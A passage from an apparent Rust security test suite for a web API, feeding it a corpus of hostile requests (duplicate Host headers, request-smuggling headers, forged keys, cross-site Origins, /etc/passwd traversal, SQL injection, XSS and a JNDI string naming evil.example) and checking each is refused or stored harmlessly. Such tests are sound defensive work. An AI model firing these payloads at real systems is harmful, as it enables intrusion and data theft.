                    "POST /api/v1/agents HTTP/1.1\r\nHost: {}\r\nHost: evil.example\r\n{key_line}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    w.server.host(),
                    agent_body.len()
                )
                .into_bytes();
                b.extend_from_slice(agent_body);
                b
            },
        )
        .status(400, "host_not_allowed")
        .bug("duplicate_host"),
    );
    out.push(
        Case::raw(
            "headers",
            "an absolute-form target naming a foreign host",
            {
                let mut b = format!(
                    "POST http://evil.example/api/v1/agents HTTP/1.1\r\nHost: {}\r\n{key_line}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                    w.server.host(),
                    agent_body.len()
                )
                .into_bytes();
                b.extend_from_slice(agent_body);
                b
            },
        )
        .status(400, "host_not_allowed")
        .bug("absolute_form_host"),
    );
    out.push(
        Case::raw(
            "headers",
            "two Content-Length values",
            {
                let mut b = format!(
                    "POST /api/v1/agents HTTP/1.1\r\nHost: {}\r\n{key_line}\r\nContent-Length: {}\r\nContent-Length: 5\r\nConnection: close\r\n\r\n",
                    w.server.host(),
                    agent_body.len()
                )
                .into_bytes();
                b.extend_from_slice(agent_body);
                b
            },
        )
        .status_any_code(400)
        .parser(),
    );
    for (what, value) in [
        ("overflowing", "99999999999999999999999"),
        ("negative", "-1"),
        ("signed", "+20"),
        ("a list", "20, 20"),
        ("hexadecimal", "0x14"),
    ] {
        let mut b = format!(
            "POST /api/v1/agents HTTP/1.1\r\nHost: {}\r\n{key_line}\r\nContent-Length: {value}\r\nConnection: close\r\n\r\n",
            w.server.host()
        )
        .into_bytes();
        b.extend_from_slice(agent_body);
        out.push(
            Case::raw("headers", format!("a Content-Length that is {what}"), b)
                .status_any_code(400)
                .parser(),
        );
    }
    for te in ["xchunked", "chunked, identity", "gzip"] {
        out.push(
            Case::raw(
                "headers",
                format!("Transfer-Encoding: {te}"),
                post_agent(&[key_line.as_str(), &format!("Transfer-Encoding: {te}")]),
            )
            .one_of(&[400, 411, 501], &[])
            .parser(),
        );
    }
    out.push(
        Case::raw(
            "headers",
            "an HTTP/2.0 request line",
            format!(
                "GET /api/v1/me HTTP/2.0\r\nHost: {}\r\n\r\n",
                w.server.host()
            )
            .into_bytes(),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "a TLS ClientHello on the plain port",
            b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\x00\x00".to_vec(),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "a space inside the request target",
            get("/api/v1/ me", &[key_line.as_str()]),
        )
        .status_any_code(400)
        .parser(),
    );
    out.push(
        Case::raw(
            "headers",
            "a request target of 100 KB",
            get(&format!("/api/v1/{}", "a".repeat(100 * 1024)), &[]),
        )
        .one_of(&[400, 414, 431], &[])
        .parser(),
    );
    let many: Vec<String> = (0..200).map(|i| format!("X-Filler-{i}: {i}")).collect();
    let many_refs: Vec<&str> = many.iter().map(String::as_str).collect();
    out.push(
        Case::raw(
            "headers",
            "200 header lines",
            get("/api/v1/health", &many_refs),
        )
        .one_of(&[400, 431], &[])
        .parser(),
    );
    out.push(
        Case::new(
            "headers",
            "a 40 KB header",
            "GET",
            "/api/v1/health",
            &Auth::None,
        )
        .header("X-Filler", "a".repeat(40 * 1024))
        .status(431, "headers_too_large"),
    );
    let mut lower = get("/api/v1/health", &[]);
    lower[..3].copy_from_slice(b"get");
    out.push(
        Case::raw("headers", "a lower-case method", lower)
            .one_of(&[400, 405], &["method_not_allowed"]),
    );

    // Through the client: header values that are valid HTTP but not valid credentials.
    let me = |name: &str| {
        Case::new(
            "headers",
            name.to_string(),
            "GET",
            "/api/v1/me",
            &Auth::None,
        )
    };
    let body = br#"{"name": "injected"}"#.to_vec();
    let create = |name: &str, auth: &Auth| {
        Case::new("headers", name.to_string(), "POST", "/api/v1/agents", auth).bytes(body.clone())
    };
    out.push(
        me("a space inside X-API-Key")
            .header("X-API-Key", format!("{} {}", &key[..20], &key[20..]))
            .status(401, "invalid_key"),
    );
    out.push(
        me("a tab inside X-API-Key")
            .header("X-API-Key", format!("{}\t{}", &key[..20], &key[20..]))
            .status(401, "invalid_key"),
    );
    out.push(
        me("two keys in one X-API-Key")
            .header("X-API-Key", format!("{key}, {key}"))
            .status(401, "invalid_key"),
    );
    out.push(
        me("an empty X-API-Key")
            .header("X-API-Key", "")
            .status(401, "invalid_key"),
    );
    out.push(
        me("Authorization: Basic with a user and password")
            .header("Authorization", "Basic YWRhQGV4YW1wbGUuY29tOnBhc3N3b3Jk")
            .status(401, "missing_key"),
    );
    out.push(
        me("Authorization: Basic carrying a valid key")
            .header(
                "Authorization",
                format!("Basic {}", b64(format!("{key}:").as_bytes())),
            )
            .status(401, "missing_key"),
    );
    out.push(
        me("Authorization: Digest")
            .header(
                "Authorization",
                "Digest username=\"ada\", realm=\"x\", nonce=\"1\"",
            )
            .status(401, "missing_key"),
    );
    out.push(
        me("Authorization: ApiKey with a valid key")
            .header("Authorization", format!("ApiKey {key}"))
            .status(401, "missing_key"),
    );
    out.push(
        me("Authorization: Token with a valid key")
            .header("Authorization", format!("Token {key}"))
            .status(401, "missing_key"),
    );
    out.push(
        me("Authorization: Bearer with no token")
            .header("Authorization", "Bearer")
            .status(401, "invalid_key"),
    );
    out.push(
        me("Authorization: Bearer with two tokens")
            .header("Authorization", format!("Bearer {key} {key}"))
            .status(401, "invalid_key"),
    );
    out.push(
        me("Authorization: Bearer with a quoted token")
            .header("Authorization", format!("Bearer \"{key}\""))
            .status(401, "invalid_key"),
    );
    out.push(
        me("a bad X-API-Key next to a valid Bearer")
            .header("X-API-Key", "ar_live_nope")
            .header("Authorization", format!("Bearer {key}"))
            .status(401, "invalid_key"),
    );
    out.push(
        create("a bad X-API-Key next to a valid session cookie", &w.cookie)
            .header("X-API-Key", "ar_live_nope")
            .status(401, "invalid_key"),
    );
    out.push(
        create(
            "a forged session cookie",
            &Auth::Cookie("forged-session-token".into()),
        )
        .status(401, "invalid_session"),
    );
    out.push(
        create("the session under another cookie name", &Auth::None)
            .header(
                "Cookie",
                match &w.cookie {
                    Auth::Cookie(c) => format!("session={c}"),
                    _ => String::new(),
                },
            )
            .status(401, "missing_key"),
    );
    for (what, name, value) in [
        ("Origin of another site", "Origin", "http://evil.example"),
        ("Origin null", "Origin", "null"),
        (
            "Origin of our host over https",
            "Origin",
            "https://evil.example",
        ),
        ("Sec-Fetch-Site: cross-site", "Sec-Fetch-Site", "cross-site"),
        ("Sec-Fetch-Site: same-site", "Sec-Fetch-Site", "same-site"),
    ] {
        out.push(
            create(&format!("a session cookie with {what}"), &w.cookie)
                .header(name, value)
                .status(403, "cross_site_request"),
        );
        out.push(
            Case::new(
                "headers",
                format!("signing out with {what}"),
                "DELETE",
                "/api/v1/session",
                &w.cookie,
            )
            .header(name, value)
            .status(403, "cross_site_request"),
        );
    }
    out
}

fn find_bytes(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn bad_keys(w: &World) -> Vec<Case> {
    let key = &w.key;
    let body = &key[8..];
    let flip = |s: &str, at: usize| {
        let mut b = s.as_bytes().to_vec();
        b[at] = if b[at] == b'A' { b'B' } else { b'A' };
        String::from_utf8(b).expect("ASCII")
    };
    let swap = |s: &str, at: usize, c: char| {
        let mut b: Vec<char> = s.chars().collect();
        b[at] = c;
        b.into_iter().collect::<String>()
    };
    let unknown_body = "Zz".repeat(13);
    let unknown = format!(
        "ar_live_{unknown_body}{}",
        checksum(unknown_body.as_bytes())
    );
    let all_a = "A".repeat(26);
    let unknown_a = format!("ar_live_{all_a}{}", checksum(all_a.as_bytes()));
    let shapes: Vec<(&str, String, &'static str)> = vec![
        ("prefix ar_test_", format!("ar_test_{body}"), "invalid_key"),
        (
            "prefix in capitals",
            format!("AR_LIVE_{body}"),
            "invalid_key",
        ),
        (
            "prefix with dashes",
            format!("ar-live-{body}"),
            "invalid_key",
        ),
        (
            "prefix without its underscore",
            format!("ar_live{body}"),
            "invalid_key",
        ),
        ("no prefix", body.to_string(), "invalid_key"),
        (
            "another vendor's prefix",
            format!("sk_live_{body}"),
            "invalid_key",
        ),
        ("the prefix twice", format!("ar_live_{key}"), "invalid_key"),
        ("one character short", key[..39].to_string(), "invalid_key"),
        ("one character long", format!("{key}A"), "invalid_key"),
        ("the prefix alone", "ar_live_".to_string(), "invalid_key"),
        (
            "1,000 characters",
            format!("ar_live_{}", "A".repeat(992)),
            "invalid_key",
        ),
        ("10 KB", "A".repeat(10 * 1024), "invalid_key"),
        ("a '+' (standard base64)", swap(key, 12, '+'), "invalid_key"),
        ("a '/' (standard base64)", swap(key, 12, '/'), "invalid_key"),
        ("a '=' padding", swap(key, 39, '='), "invalid_key"),
        ("a '.'", swap(key, 20, '.'), "invalid_key"),
        ("a '%'", swap(key, 20, '%'), "invalid_key"),
        ("a wrong random character", flip(key, 10), "invalid_key"),
        ("a wrong checksum character", flip(key, 39), "invalid_key"),
        (
            "its case swapped",
            key.chars()
                .map(|c| {
                    if c.is_ascii_uppercase() {
                        c.to_ascii_lowercase()
                    } else {
                        c.to_ascii_uppercase()
                    }
                })
                .collect::<String>()
                .replacen("AR_LIVE_", "ar_live_", 1),
            "invalid_key",
        ),
        ("a valid checksum, never issued", unknown, "invalid_key"),
        (
            "all A with a valid checksum, never issued",
            unknown_a,
            "invalid_key",
        ),
        ("revoked", w.revoked_key.clone(), "revoked_key"),
        ("expired", w.expired_key.clone(), "expired_key"),
        (
            "of a deleted agent",
            w.deleted_agent_key.clone(),
            "revoked_key",
        ),
    ];
    let mut out = Vec::new();
    for (what, presented, code) in shapes {
        out.push(
            Case::new(
                "keys",
                format!("X-API-Key {what}"),
                "GET",
                "/api/v1/me",
                &Auth::Key(presented.clone()),
            )
            .status(401, code),
        );
        out.push(
            Case::new(
                "keys",
                format!("Bearer {what}"),
                "GET",
                "/api/v1/me",
                &Auth::Bearer(presented.clone()),
            )
            .status(401, code),
        );
        out.push(
            Case::new(
                "keys",
                format!("creating an agent with a key {what}"),
                "POST",
                "/api/v1/agents",
                &Auth::Key(presented.clone()),
            )
            .json(&json!({"name": "via a bad key"}))
            .status(401, code),
        );
        out.push(
            Case::new(
                "keys",
                format!("commenting with a key {what}"),
                "POST",
                format!("/api/v1/artifacts/{}/comments", w.share),
                &Auth::Bearer(presented),
            )
            .json(&json!({"content": "via a bad key", "target": quote_target("Monthly revenue")}))
            .status(401, code),
        );
    }
    out
}

/// Ids, share tokens, version numbers and file paths that name nothing.
fn path_ids(w: &World) -> Vec<Case> {
    let mut out = Vec::new();
    let bad_ids = [
        "abc",
        "-1",
        "0",
        "1e9",
        "%00",
        "999999",
        "9223372036854775808",
        "18446744073709551616",
        "1.0",
        "%20",
        "%ff",
        "0x1",
        "1%00",
        "%2e%2e",
    ];
    let share = &w.share;
    let routes: Vec<(&str, String, &Auth, Option<Value>)> = vec![
        ("DELETE", "/api/v1/keys/{}".into(), &w.cookie, None),
        (
            "PATCH",
            "/api/v1/agents/{}".into(),
            &w.user_key,
            Some(json!({"name": "x"})),
        ),
        ("DELETE", "/api/v1/agents/{}".into(), &w.user_key, None),
        (
            "PATCH",
            "/api/v1/comments/{}".into(),
            &w.user_key,
            Some(json!({"resolved": true})),
        ),
        ("DELETE", "/api/v1/comments/{}".into(), &w.user_key, None),
        (
            "POST",
            "/api/v1/comments/{}/replies".into(),
            &w.user_key,
            Some(json!({"content": "x"})),
        ),
        (
            "PATCH",
            "/api/v1/replies/{}".into(),
            &w.user_key,
            Some(json!({"content": "x"})),
        ),
        ("DELETE", "/api/v1/replies/{}".into(), &w.user_key, None),
        (
            "PATCH",
            "/api/v1/team/members/{}".into(),
            &w.cookie,
            Some(json!({"disabled": true})),
        ),
        ("DELETE", "/api/v1/team/invites/{}".into(), &w.cookie, None),
        (
            "DELETE",
            format!("/api/v1/artifacts/{share}/access/{{}}"),
            &w.user_key,
            None,
        ),
    ];
    for (method, template, auth, body) in &routes {
        for id in bad_ids {
            let path = template.replace("{}", id);
            let mut case = Case::new("path ids", format!("{method} {path}"), method, path, auth)
                .status(404, "not_found");
            if let Some(b) = body {
                case = case.json(b);
            }
            out.push(case);
        }
    }
    // Real ids of the wrong kind: a key id used as a comment id and so on, far beyond any row.
    for (method, path) in [
        (
            "DELETE",
            format!(
                "/api/v1/keys/{}",
                w.comment.parse::<i64>().unwrap_or(1) + 1000
            ),
        ),
        (
            "DELETE",
            format!(
                "/api/v1/comments/{}",
                w.reply.parse::<i64>().unwrap_or(1) + 1000
            ),
        ),
        (
            "DELETE",
            format!(
                "/api/v1/artifacts/{share}/access/{}",
                w.grant.parse::<i64>().unwrap_or(1) + 1000
            ),
        ),
        (
            "DELETE",
            format!(
                "/api/v1/team/invites/{}",
                w.invite.parse::<i64>().unwrap_or(1) + 1000
            ),
        ),
        (
            "PATCH",
            format!(
                "/api/v1/agents/{}",
                w.key_id.parse::<i64>().unwrap_or(1) + 1000
            ),
        ),
    ] {
        let auth = if path.contains("keys") || path.contains("team") {
            &w.cookie
        } else {
            &w.user_key
        };
        out.push(
            Case::new(
                "path ids",
                format!("{method} {path} (no such row)"),
                method,
                path,
                auth,
            )
            .json(&json!({"name": "x"}))
            .status(404, "not_found"),
        );
    }
    let bad_tokens = [
        "abc".to_string(),
        "%00".to_string(),
        format!("{share}x"),
        share.to_uppercase(),
        share[..share.len() - 1].to_string(),
        "%2e%2e".to_string(),
        "%ff%fe".to_string(),
        "a".repeat(5000),
    ];
    for token in &bad_tokens {
        let shown = &token[..token.len().min(40)];
        for (method, suffix, body) in [
            ("GET", "", None),
            ("PATCH", "", Some(json!({"name": "x"}))),
            ("DELETE", "", None),
            ("GET", "/versions", None),
            (
                "POST",
                "/versions",
                Some(json!({"fileName": "a.html", "content": "<p>x</p>"})),
            ),
            ("GET", "/comments", None),
            (
                "POST",
                "/comments",
                Some(json!({"content": "x", "target": quote_target("Monthly revenue")})),
            ),
            ("GET", "/access", None),
            ("POST", "/access", Some(json!({"email": "x@example.com"}))),
        ] {
            let path = format!("/api/v1/artifacts/{token}{suffix}");
            let mut case = Case::new(
                "path ids",
                format!("{method} /api/v1/artifacts/{shown}{suffix}"),
                method,
                path,
                &w.user_key,
            )
            .status(404, "not_found");
            if let Some(b) = body {
                case = case.json(&b);
            }
            out.push(case);
        }
    }
    for number in [
        "0",
        "-1",
        "abc",
        "1e9",
        "99",
        "18446744073709551616",
        "v0",
        "%00",
        "1.5",
        "v",
    ] {
        for (method, suffix, body) in [
            ("PATCH", "", Some(json!({"name": "x"}))),
            ("DELETE", "", None),
            ("POST", "/restore", None),
            ("GET", "/files", None),
            ("GET", "/files/index.html", None),
        ] {
            let path = format!("/api/v1/artifacts/{share}/versions/{number}{suffix}");
            let mut case = Case::new(
                "path ids",
                format!("{method} version {number}{suffix}"),
                method,
                path,
                &w.user_key,
            )
            .one_of(&[400, 404], &["not_found", "invalid_version"]);
            if let Some(b) = body {
                case = case.json(&b);
            }
            out.push(case);
        }
    }
    for query in [
        "version=v0",
        "version=v99",
        "version=abc",
        "version=%00",
        "version=v1&version=v1",
        "unknown=1",
    ] {
        out.push(
            Case::new(
                "path ids",
                format!("comments?{query}"),
                "GET",
                format!("/api/v1/artifacts/{share}/comments?{query}"),
                &w.user_key,
            )
            .one_of(&[400, 404], &[]),
        );
    }
    for file in [
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/etc/passwd",
        "%2e%2e%5c%2e%2e%5cetc%5cpasswd",
        "%00",
        "index.html%00",
        "index.html%00.png",
        "%2fetc%2fpasswd",
        "INDEX.HTML",
        "nope.html",
    ] {
        out.push(
            Case::new(
                "path ids",
                format!("file {file}"),
                "GET",
                format!("/api/v1/artifacts/{share}/versions/1/files/{file}"),
                &w.user_key,
            )
            .status(404, "not_found"),
        );
        out.push(
            Case::new(
                "path ids",
                format!("file {file} under a viewing grant"),
                "GET",
                format!("{}/{file}", w.grant_path),
                &Auth::None,
            )
            .status_any_code(404)
            .page(),
        );
    }
    let long_grant = "x".repeat(2000);
    for grant in [
        "abc",
        "%00",
        long_grant.as_str(),
        "..%2f..",
        "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    ] {
        out.push(
            Case::new(
                "path ids",
                format!("viewing grant {}", &grant[..grant.len().min(40)]),
                "GET",
                format!("/v/{grant}/index.html"),
                &Auth::None,
            )
            .status_any_code(404)
            .page(),
        );
    }
    for token in ["abc", "%00", "%27%20OR%201%3D1--"] {
        out.push(
            Case::new(
                "path ids",
                format!("viewer of artifact {token}"),
                "GET",
                format!("/a/{token}/v/1/"),
                &w.cookie,
            )
            .status_any_code(404)
            .page(),
        );
    }
    out
}

/// Requests without the right credentials, on the wrong route, or with the wrong method.
fn access_rules(w: &World, eps: &[Endpoint]) -> Vec<Case> {
    let mut out = Vec::new();
    for ep in eps {
        if matches!(ep.auth, Auth::None) {
            continue;
        }
        let code = if matches!(ep.auth, Auth::Cookie(_)) {
            "missing_session"
        } else {
            "missing_key"
        };
        out.push(
            Case::new(
                "access",
                format!("{} without credentials", ep.label),
                ep.method,
                ep.path.clone(),
                &Auth::None,
            )
            .json(&ep.base)
            .status(401, code),
        );
        if matches!(ep.auth, Auth::Cookie(_)) {
            out.push(
                Case::new(
                    "access",
                    format!("{} with an API key", ep.label),
                    ep.method,
                    ep.path.clone(),
                    &w.user_key,
                )
                .json(&ep.base)
                .status(403, "session_required"),
            );
        }
    }
    for (method, path, body) in [
        (
            "POST",
            "/api/v1/agents".to_string(),
            Some(json!({"name": "x"})),
        ),
        (
            "PATCH",
            format!("/api/v1/agents/{}", w.agent_id),
            Some(json!({"name": "x"})),
        ),
        ("DELETE", format!("/api/v1/agents/{}", w.agent_id), None),
    ] {
        let mut case = Case::new(
            "access",
            format!("{method} {path} with an agent's key"),
            method,
            path,
            &w.agent_key,
        )
        .status(403, "agent_not_allowed");
        if let Some(b) = body {
            case = case.json(&b);
        }
        out.push(case);
    }
    for (method, path) in [
        ("DELETE", format!("/api/v1/keys/{}", w.key_id)),
        ("GET", "/api/v1/keys".to_string()),
        ("GET", "/api/v1/activity".to_string()),
        ("GET", "/api/v1/team/members".to_string()),
        ("DELETE", format!("/api/v1/team/invites/{}", w.invite)),
        ("DELETE", "/api/v1/session".to_string()),
    ] {
        out.push(
            Case::new(
                "access",
                format!("{method} {path} with an API key"),
                method,
                path,
                &w.user_key,
            )
            .status(403, "session_required"),
        );
    }
    for (method, path) in [
        ("PUT", "/api/v1/keys"),
        ("POST", "/api/v1/me"),
        ("DELETE", "/api/v1/artifacts"),
        ("PUT", "/api/v1/agents"),
        ("POST", "/api/v1/health"),
        ("TRACE", "/api/v1/me"),
        ("PATCH", "/api/v1/session"),
    ] {
        out.push(
            Case::new(
                "access",
                format!("{method} {path}"),
                method,
                path,
                &w.user_key,
            )
            .json(&json!({"name": "x"}))
            .status(405, "method_not_allowed"),
        );
    }
    for path in [
        "/api/v1/keys/",
        "/api/v1//keys",
        "/api/v1/keys/1/2",
        "/api/v2/keys",
        "/API/V1/KEYS",
        "/api/v1/artifacts/x/y/z",
    ] {
        out.push(
            Case::new("access", format!("POST {path}"), "POST", path, &w.cookie)
                .json(&json!({"name": "x"}))
                .status(404, "not_found"),
        );
    }
    out
}

fn corpus(w: &World) -> Result<Vec<Case>, Box<dyn std::error::Error>> {
    let eps = endpoints(w);
    let mut cases = Vec::new();
    cases.extend(malformed_json(&eps));
    cases.push(positional_target(&eps));
    cases.extend(wrong_types(&eps));
    cases.extend(huge_numbers(w, &eps));
    cases.extend(deep_nesting(&eps));
    cases.extend(invalid_utf8(&eps));
    cases.extend(text_cases(&eps));
    cases.extend(multipart_cases(w));
    cases.extend(sql_injection(w));
    cases.extend(zip_cases(w)?);
    cases.extend(body_limits(w));
    cases.extend(header_tricks(w));
    cases.extend(bad_keys(w));
    cases.extend(path_ids(w));
    cases.extend(access_rules(w, &eps));
    cases.extend(sign_in_attempts());
    Ok(cases)
}

fn by_category(cases: &[Case]) -> BTreeMap<&'static str, usize> {
    let mut counts = BTreeMap::new();
    for c in cases {
        *counts.entry(c.category).or_insert(0) += 1;
    }
    counts
}

// ---------------------------------------------------------------------------------------------
// The tests.
// ---------------------------------------------------------------------------------------------

#[test]
fn every_hostile_request_gets_a_json_4xx_and_stores_nothing() -> TestResult {
    let w = world();
    let cases: Vec<Case> = corpus(&w)?
        .into_iter()
        .filter(|c| c.bug.is_none())
        .collect();
    let counts = by_category(&cases);
    eprintln!("hostile corpus: {} cases {counts:?}", cases.len());
    assert!(cases.len() >= 150, "the corpus has {} cases", cases.len());
    let failures = run(&w.server, &cases);
    assert!(
        failures.is_empty(),
        "{} of {} hostile cases failed:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    still_serves(&w);
    Ok(())
}

fn run_bug(tag: &str) -> TestResult {
    let w = world();
    let cases: Vec<Case> = corpus(&w)?
        .into_iter()
        .filter(|c| c.bug == Some(tag))
        .collect();
    assert!(!cases.is_empty(), "no cases tagged {tag}");
    let failures = run(&w.server, &cases);
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    still_serves(&w);
    Ok(())
}

#[test]
fn a_request_with_two_host_headers_is_refused() -> TestResult {
    run_bug("duplicate_host")
}

#[test]
fn an_absolute_form_target_naming_a_foreign_host_is_refused() -> TestResult {
    run_bug("absolute_form_host")
}

#[test]
fn a_json_array_is_not_taken_for_an_object() -> TestResult {
    run_bug("positional_arrays")
}

#[test]
fn a_multipart_field_that_is_not_utf8_is_refused() -> TestResult {
    run_bug("multipart_utf8")
}

// ---------------------------------------------------------------------------------------------
// The valid side: hostile-looking text is stored and returned verbatim.
// ---------------------------------------------------------------------------------------------

const SQLISH: &[&str] = &[
    "'; DROP TABLE users;--",
    "Robert'); DROP TABLE comments;--",
    "\" OR 1=1 --",
    "' OR '1'='1",
    "100% done_ok",
    "%",
    "_",
    "\\",
    "back\\slash \\\\ and \\' quote",
    "%_\\%\\_",
    "1; SELECT * FROM api_keys",
    "<img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
];

fn table_names(db: &rusqlite::Connection) -> Vec<String> {
    let mut stmt = db
        .prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
        .expect("list tables");
    stmt.query_map([], |r| r.get::<_, String>(0))
        .expect("tables")
        .collect::<Result<Vec<_>, _>>()
        .expect("tables")
}

#[test]
fn sql_metacharacters_are_stored_verbatim_where_text_is_valid() -> TestResult {
    let server = Server::start();
    let cookie_value = server.setup_owner();
    let cookie = Auth::Cookie(cookie_value.clone());
    let (_, key) = server.create_key(&cookie_value, json!({"name": "CI"}));
    let key = Auth::Key(key);
    let tables_before = table_names(&server.open_db());
    let users_before: i64 = server
        .open_db()
        .query_row("SELECT count(*) FROM users", [], |r| r.get(0))?;

    for text in SQLISH {
        // Key name.
        let resp = server.post("/api/v1/keys", &cookie, &json!({"name": text}));
        assert_eq!(resp.status, 201, "key {text:?}: {}", resp.text());
        let id = resp.json()["id"].as_str().ok_or("key id")?.to_string();
        let keys = server.get("/api/v1/keys", &cookie).json();
        let listed = keys["keys"]
            .as_array()
            .ok_or("keys")?
            .iter()
            .find(|k| k["id"] == json!(id))
            .ok_or("the key is listed")?
            .clone();
        assert_eq!(listed["name"], json!(text));

        // Agent name and role.
        let resp = server.post("/api/v1/agents", &key, &json!({"name": text, "role": text}));
        assert_eq!(resp.status, 201, "agent {text:?}: {}", resp.text());
        assert_eq!(resp.json()["name"], json!(text));
        assert_eq!(resp.json()["role"], json!(text));

        // Artifact name and description, version name.
        let created = server.upload(
            &key,
            json!({"name": text, "description": text, "versionName": text, "fileName": "index.html", "content": format!("<p>{text}</p>")}),
        );
        let share = created["shareToken"].as_str().ok_or("share")?.to_string();
        let artifact = server
            .get(&format!("/api/v1/artifacts/{share}"), &key)
            .json();
        assert_eq!(artifact["name"], json!(text));
        assert_eq!(artifact["description"], json!(text));
        assert_eq!(artifact["versions"][0]["name"], json!(text));
        let raw = server.get(
            &format!("/api/v1/artifacts/{share}/versions/1/files/index.html"),
            &key,
        );
        assert_eq!(raw.text(), format!("<p>{text}</p>"));

        // Comment content and selector, reply content.
        let target = json!({"source": "index.html", "selector": {"type": "TextQuoteSelector", "exact": text, "prefix": text, "suffix": text}});
        let resp = server.post(
            &format!("/api/v1/artifacts/{share}/comments"),
            &key,
            &json!({"content": text, "target": target}),
        );
        assert_eq!(resp.status, 201, "comment {text:?}: {}", resp.text());
        let comment = resp.json()["id"].as_str().ok_or("comment id")?.to_string();
        let resp = server.post(
            &format!("/api/v1/comments/{comment}/replies"),
            &key,
            &json!({"content": text}),
        );
        assert_eq!(resp.status, 201, "reply {text:?}: {}", resp.text());
        let listed = server
            .get(&format!("/api/v1/artifacts/{share}/comments"), &key)
            .json();
        let c = &listed["comments"][0];
        assert_eq!(c["content"], json!(text));
        assert_eq!(c["target"], target);
        assert_eq!(c["replies"][0]["content"], json!(text));

        // The account's name.
        let resp = server.patch("/api/v1/account", &cookie, &json!({"name": text}));
        assert_eq!(resp.status, 200, "account {text:?}: {}", resp.text());
        assert_eq!(
            server.get("/api/v1/me", &key).json()["user"]["name"],
            json!(text)
        );
    }
    // Emails with metacharacters that are still addresses.
    let artifact = server.upload(
        &key,
        json!({"name": "emails", "fileName": "index.html", "content": PAGE}),
    );
    let share = artifact["shareToken"].as_str().ok_or("share")?;
    for email in [
        "o'brien@example.com",
        "100%_sure@example.com",
        "back\\slash@example.com",
        "\"quoted\"@example.com",
    ] {
        let resp = server.post(
            &format!("/api/v1/artifacts/{share}/access"),
            &key,
            &json!({"email": email}),
        );
        assert_eq!(resp.status, 201, "access {email:?}: {}", resp.text());
    }
    let access = server
        .get(&format!("/api/v1/artifacts/{share}/access"), &key)
        .json();
    let emails: Vec<&str> = access["access"]
        .as_array()
        .ok_or("access list")?
        .iter()
        .filter_map(|g| g["email"].as_str())
        .collect();
    for email in [
        "o'brien@example.com",
        "100%_sure@example.com",
        "back\\slash@example.com",
        "\"quoted\"@example.com",
    ] {
        assert!(emails.contains(&email), "{email} in {emails:?}");
    }

    // The tables are intact and whole.
    let db = server.open_db();
    assert_eq!(table_names(&db), tables_before);
    let users: i64 = db.query_row("SELECT count(*) FROM users", [], |r| r.get(0))?;
    assert_eq!(users, users_before);
    let check: String = db.query_row("PRAGMA integrity_check", [], |r| r.get(0))?;
    assert_eq!(check, "ok");
    assert_eq!(server.get("/api/v1/me", &key).status, 200);
    assert!(
        alarming_log_lines(&server.log()).is_empty(),
        "{}",
        server.log()
    );
    Ok(())
}

#[test]
fn text_exactly_at_each_limit_in_4_byte_characters_is_stored_verbatim() -> TestResult {
    let server = Server::start();
    let cookie_value = server.setup_owner();
    let cookie = Auth::Cookie(cookie_value.clone());
    let (_, key) = server.create_key(&cookie_value, json!({"name": "CI"}));
    let key = Auth::Key(key);
    let emoji = |n: usize| "😀".repeat(n);

    let resp = server.post("/api/v1/keys", &cookie, &json!({"name": emoji(100)}));
    assert_eq!(resp.status, 201, "{}", resp.text());
    assert_eq!(resp.json()["name"], json!(emoji(100)));
    let resp = server.post(
        "/api/v1/agents",
        &key,
        &json!({"name": emoji(100), "role": emoji(100)}),
    );
    assert_eq!(resp.status, 201, "{}", resp.text());
    let created = server.upload(
        &key,
        json!({"name": emoji(200), "description": emoji(500), "versionName": emoji(100), "fileName": "index.html", "content": PAGE}),
    );
    let share = created["shareToken"].as_str().ok_or("share")?;
    let artifact = server
        .get(&format!("/api/v1/artifacts/{share}"), &key)
        .json();
    assert_eq!(artifact["name"], json!(emoji(200)));
    assert_eq!(artifact["description"], json!(emoji(500)));
    assert_eq!(artifact["versions"][0]["name"], json!(emoji(100)));
    let target = json!({"source": "index.html", "selector": {"type": "TextQuoteSelector", "exact": emoji(2000), "prefix": emoji(500), "suffix": emoji(500)}});
    let resp = server.post(
        &format!("/api/v1/artifacts/{share}/comments"),
        &key,
        &json!({"content": emoji(10_000), "target": target}),
    );
    assert_eq!(resp.status, 201, "{}", resp.text());
    let comment = resp.json()["id"].as_str().ok_or("id")?.to_string();
    let resp = server.post(
        &format!("/api/v1/comments/{comment}/replies"),
        &key,
        &json!({"content": emoji(5_000)}),
    );
    assert_eq!(resp.status, 201, "{}", resp.text());
    let listed = server
        .get(&format!("/api/v1/artifacts/{share}/comments"), &key)
        .json();
    assert_eq!(listed["comments"][0]["content"], json!(emoji(10_000)));
    assert_eq!(listed["comments"][0]["target"], target);
    assert_eq!(
        listed["comments"][0]["replies"][0]["content"],
        json!(emoji(5_000))
    );
    Ok(())
}
